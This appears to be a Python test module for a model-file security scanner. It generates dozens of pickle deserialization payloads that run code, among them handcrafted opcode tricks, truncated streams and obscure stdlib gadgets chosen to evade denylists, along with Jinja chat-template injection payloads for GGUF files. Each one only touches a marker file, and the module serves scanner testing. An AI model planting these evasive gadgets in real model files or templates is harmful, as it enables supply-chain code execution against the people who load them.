"""The code-execution payloads of the scan corpus, as pickles (and GGUF chat templates).

Each payload only creates the marker file. The gadget families follow the published bypasses
of denylist scanners: the JFrog and Sonatype picklescan advisories (2024–2025), "The Art of
Hide and Seek: Making Pickle-Based Model Supply Chain Poisoning Stealthy Again" (2025: obscure
stdlib gadgets, exception-oriented payloads) and ReversingLabs' nullifAI report (2025: broken
pickles that fire before the error). Protocols 0–5 are all used.
"""

from __future__ import annotations

import marshal
import shlex
from dataclasses import dataclass

from tests.scan.corpus_pickle import Call, G, assemble, fragment


@dataclass(frozen=True)
class PicklePayload:
    technique: str
    proto: int
    data: bytes


def _imp(module: str) -> Call:
    return Call(G("builtins", "__import__"), (module,))


def _getattr(obj: object, name: str) -> Call:
    return Call(G("builtins", "getattr"), (obj, name))


def _code(src: str) -> Call:
    return Call(G("builtins", "compile"), (src, "<payload>", "exec"))


def _str(s: str, proto: int) -> bytes:
    return fragment(s, proto)


def _hand_made(m: str, sh: str) -> list[PicklePayload]:
    """Opcode sequences that ``pickle.dumps`` never writes."""
    out = []
    # INST: MARK args 'i module\nname\n' calls module.name(*args), no REDUCE
    out.append(PicklePayload("inst-opcode", 0, b"(" + _str(sh, 0) + b"ios\nsystem\n."))
    # OBJ: MARK callable args 'o'
    out.append(PicklePayload("obj-opcode", 1, b"(cos\nsystem\n" + _str(sh, 1) + b"o."))
    # STACK_GLOBAL whose module and name come back from the memo (BINGET), not literals
    memo = (
        b"\x80\x04" + _str("os", 4) + b"\x940" + _str("system", 4) + b"\x940"
        b"h\x00h\x01\x93" + _str(sh, 4) + b"\x85R."
    )
    out.append(PicklePayload("stack-global-from-memo", 4, memo))
    # BUILD sets __setstate__ on a SimpleNamespace, a second BUILD calls it: no REDUCE at all
    build = (
        b"\x80\x02ctypes\nSimpleNamespace\n)R"
        b"N(" + _str("__setstate__", 2) + b"cos\nsystem\nd\x86b" + _str(sh, 2) + b"b."
    )
    out.append(PicklePayload("build-setstate-injection", 2, build))
    # the payload fires, then the stream is cut: the loader raises after the side effect
    fired = assemble(Call(G("os", "system"), (sh,)), 2)[:-1]
    out.append(PicklePayload("truncated-after-reduce", 2, fired))
    # payload, then an invalid opcode: scanners that stop at the first parse error see nothing
    out.append(PicklePayload("invalid-opcode-after-reduce", 2, fired + b"\xff"))
    return out


def pickle_payloads(marker: str) -> list[PicklePayload]:
    """Every pickle technique of the corpus, each creating ``marker`` when unpickled."""
    m = marker
    sh = f"touch {shlex.quote(m)}"
    py = f"open({m!r}, 'w').close()"
    expr = f"__import__('pathlib').Path({m!r}).touch()"
    inner = assemble(Call(G("os", "system"), (sh,)), 2)
    calls: list[tuple[str, int, object]] = [
        ("os.system", 0, Call(G("os", "system"), (sh,))),
        ("posix.system", 2, Call(G("posix", "system"), (sh,))),
        ("os.popen", 1, Call(G("os", "popen"), (sh,))),
        ("os.spawnv", 3, Call(G("os", "spawnv"), (0, "/usr/bin/touch", ["touch", m]))),
        ("subprocess.Popen", 3, Call(G("subprocess", "Popen"), (["touch", m],))),
        ("subprocess.run", 4, Call(G("subprocess", "run"), (["touch", m],))),
        ("subprocess.call", 5, Call(G("subprocess", "call"), (["touch", m],))),
        ("subprocess.check_output", 1, Call(G("subprocess", "check_output"), (["touch", m],))),
        ("subprocess.check_call", 2, Call(G("subprocess", "check_call"), (["touch", m],))),
        ("subprocess.getoutput", 0, Call(G("subprocess", "getoutput"), (sh,))),
        ("py2-name-commands.getoutput", 0, Call(G("commands", "getoutput"), (sh,))),
        ("builtins.exec", 4, Call(G("builtins", "exec"), (py,))),
        ("builtins.eval", 2, Call(G("builtins", "eval"), (expr,))),
        ("py2-name-__builtin__.eval", 0, Call(G("__builtin__", "eval"), (expr,))),
        ("compile+exec", 3, Call(G("builtins", "exec"), (_code(py),))),
        ("__import__-getattr-chain", 2, Call(_getattr(_imp("os"), "system"), (sh,))),
        (
            "importlib.import_module",
            4,
            Call(_getattr(Call(G("importlib", "import_module"), ("os",)), "system"), (sh,)),
        ),
        (
            "sys.modules-getitem",
            2,
            Call(
                _getattr(Call(G("operator", "getitem"), (G("sys", "modules"), "os")), "system"),
                (sh,),
            ),
        ),
        ("runpy._run_code", 3, Call(G("runpy", "_run_code"), (_code(py), {}))),
        (
            "code.InteractiveInterpreter.runsource",
            4,
            Call(
                G("code", "InteractiveInterpreter.runsource"),
                (Call(G("code", "InteractiveInterpreter"), ()), py),
            ),
        ),
        (
            "timeit.timeit",
            2,
            Call(G("timeit", "timeit"), (py, "pass", G("time", "perf_counter"), 1)),
        ),
        ("nested-pickle.loads", 3, Call(G("pickle", "loads"), (inner,))),
        ("nested-_pickle.loads", 5, Call(G("_pickle", "loads"), (inner,))),
        (
            "marshal+types.FunctionType",
            3,
            Call(
                Call(
                    G("types", "FunctionType"),
                    (Call(G("marshal", "loads"), (marshal.dumps(compile(py, "<p>", "exec")),)), {}),
                ),
                (),
            ),
        ),
        (
            "functools.partial",
            2,
            Call(Call(G("functools", "partial"), (G("os", "system"), sh)), ()),
        ),
        (
            "operator.methodcaller",
            4,
            Call(Call(G("operator", "methodcaller"), ("system", sh)), (_imp("os"),)),
        ),
        (
            "operator.attrgetter",
            3,
            Call(Call(Call(G("operator", "attrgetter"), ("system",)), (_imp("os"),)), (sh,)),
        ),
        ("pathlib.Path.touch", 2, Call(_getattr(Call(G("pathlib", "Path"), (m,)), "touch"), ())),
        (
            "pathlib.Path.write_text-dotted-name",
            4,
            Call(G("pathlib", "Path.write_text"), (Call(G("pathlib", "Path"), (m,)), "x")),
        ),
        ("builtins.open", 1, Call(G("builtins", "open"), (m, "w"))),
        ("io.open", 0, Call(G("io", "open"), (m, "w"))),
        ("shutil.copyfile", 2, Call(G("shutil", "copyfile"), ("/dev/null", m))),
        (
            "copyreg._reconstructor-Popen",
            2,
            Call(
                G("copyreg", "_reconstructor"),
                (G("subprocess", "Popen"), G("subprocess", "Popen"), ["touch", m]),
            ),
        ),
        (
            "exception-after-side-effect",
            4,
            Call(G("builtins", "exec"), (py + "\nraise ValueError('not a model')",)),
        ),
        # gadgets missing from common denylists
        (
            "numpy.testing.runstring",
            3,
            Call(G("numpy.testing._private.utils", "runstring"), (py, {})),
        ),
        (
            "torch.jit.execWrapper",
            4,
            Call(G("torch.jit.unsupported_tensor_ops", "execWrapper"), (py, {}, {})),
        ),
        ("pydoc.locate", 2, Call(Call(G("pydoc", "locate"), ("os.system",)), (sh,))),
        ("pydoc.pipepager", 2, Call(G("pydoc", "pipepager"), ("", sh))),
        (
            "idlelib.calltip.get_entity",
            2,
            Call(G("idlelib.calltip", "get_entity"), (f"__import__('os').system({sh!r})",)),
        ),
        (
            "lib2to3.Grammar.loads",
            4,
            Call(
                G("lib2to3.pgen2.grammar", "Grammar.loads"),
                (Call(G("lib2to3.pgen2.grammar", "Grammar"), ()), inner),
            ),
        ),
        (
            "ctypes.CDLL.system",
            3,
            Call(_getattr(Call(G("ctypes", "CDLL"), (None,)), "system"), (sh.encode(),)),
        ),
        ("cProfile.run", 2, Call(G("cProfile", "run"), (py,))),
        ("profile.run", 0, Call(G("profile", "run"), (py,))),
        (
            "trace.Trace.run",
            4,
            Call(G("trace", "Trace.run"), (Call(G("trace", "Trace"), (0, 0)), py)),
        ),
        ("bdb.Bdb.run", 4, Call(G("bdb", "Bdb.run"), (Call(G("bdb", "Bdb"), ()), py))),
        ("uuid._get_command_stdout", 2, Call(G("uuid", "_get_command_stdout"), ("touch", m))),
        (
            "multiprocessing.util.spawnv_passfds",
            3,
            Call(
                G("multiprocessing.util", "spawnv_passfds"),
                (b"/usr/bin/touch", [b"touch", m.encode()], []),
            ),
        ),
        ("distutils.spawn.spawn", 2, Call(G("distutils.spawn", "spawn"), (["touch", m],))),
        ("_osx_support._read_output", 2, Call(G("_osx_support", "_read_output"), (sh,))),
    ]
    out = [PicklePayload(t, p, assemble(v, p)) for t, p, v in calls]
    out += _hand_made(m, sh)
    return out


def ext_code_pickle() -> bytes:
    """EXT1 0xF0 (an unregistered extension code, see ``copyreg``): cannot be resolved
    statically, so it is "suspicious", not a verified payload."""
    return b"\x80\x02\x82\xf0" + fragment(("x",), 2) + b"R."


def gguf_templates(marker: str) -> list[tuple[str, str]]:
    """Chat templates (GGUF ``tokenizer.chat_template``) that escape Jinja's sandboxed subset
    (server-side template injection, CVE-2024-34359 in llama-cpp-python)."""
    sh = f"touch {shlex.quote(marker)}"
    return [
        ("gguf-ssti-cycler-globals", f"{{{{ cycler.__init__.__globals__.os.system({sh!r}) }}}}"),
        ("gguf-ssti-lipsum-globals", f"{{{{ lipsum.__globals__['os'].system({sh!r}) }}}}"),
        (
            "gguf-ssti-namespace-globals",
            f"{{{{ namespace.__init__.__globals__.os.popen({sh!r}).read() }}}}",
        ),
        (
            "gguf-ssti-subclasses-walk",
            "{% for c in ().__class__.__base__.__subclasses__() %}"
            "{% if c.__name__ == '_wrap_close' %}"
            f"{{{{ c.__init__.__globals__['system']({sh!r}) }}}}"
            "{% endif %}{% endfor %}",
        ),
        (
            "gguf-ssti-self-context",
            "{% for message in messages %}{{ message.content }}{% endfor %}"
            f"{{{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system({sh!r}) }}}}",
        ),
    ]
